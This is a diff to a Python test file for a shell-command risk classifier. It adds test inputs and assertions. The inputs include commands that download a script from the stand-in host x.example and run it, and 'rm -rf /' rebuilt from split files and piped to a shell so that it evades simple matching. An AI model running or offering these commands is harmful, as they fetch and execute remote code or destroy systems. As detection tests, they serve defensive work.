@@ -17,6 +17,9 @@ def rules(line: str) -> set[str]:
         "curl -O https://x.example/i.sh; bash i.sh",
         "wget 'https://x.example/d/i.sh?x=1' && chmod +x i.sh && ./i.sh",
         "wget -P d https://x.example/i.sh; sh d/i.sh",
+        "f=$(mktemp); curl https://x.example > $f; bash $f",
+        'curl -o "$D/i.sh" https://x.example; sh "$D/i.sh"',
+        "curl https://x.example > /tmp/a1; bash /tmp/a*",
         "cd d && curl -LO https://x.example/kubectl && chmod +x kubectl && ./kubectl get pods",
     ],
 )
@@ -49,3 +52,13 @@ def test_found_files_that_are_no_secret_or_only_listed(line: str) -> None:
 
 def test_a_file_where_a_mode_was_forgotten() -> None:
     assert "permissions-tree" in rules("chmod -R /usr")
+
+
+def test_a_pattern_can_fit_what_the_line_wrote() -> None:
+    assert "deletion-root" in rules("echo 'rm -rf /' > /tmp/a1; cat /tmp/a? | bash")
+    assert "deletion-root" in rules("printf %s m > d/2; printf %s 'r' > d/1; printf %s ' -rf /' > d/3; cat d/* | sh")
+    assert rules("echo a > $X; bash $Y") == {"writes-file", "runs-script"}
+
+
+def test_a_temporary_file_has_a_name() -> None:
+    assert rules('d=$(mktemp -d); rm -rf "$d"') == {"writes-file", "deletion-files"}
